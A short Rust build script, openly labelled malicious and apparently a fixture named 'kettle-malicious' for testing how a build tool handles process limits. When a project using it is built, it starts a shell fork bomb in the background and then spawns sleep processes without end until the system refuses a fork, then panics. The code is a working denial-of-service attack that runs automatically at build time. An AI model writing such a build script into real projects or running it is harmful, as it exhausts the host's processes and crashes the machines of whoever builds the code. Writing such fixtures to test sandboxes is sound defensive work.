// Malicious build script: a fork bomb. A shell bomb runs in the background
// while the script itself spawns processes without end. Only a process limit
// stops it; when a spawn is refused the script gives up.
use std::process::{Child, Command, Stdio};

fn main() {
    let _bomb = Command::new("/bin/sh")
        .arg("-c")
        .arg("b() { b | b & }; b")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
    let mut children: Vec<Child> = Vec::new();
    loop {
        match Command::new("/bin/sleep").arg("3600").spawn() {
            Ok(c) => children.push(c),
            Err(e) => panic!("kettle-malicious: fork refused after {} processes: {e}", children.len()),
        }
    }
}
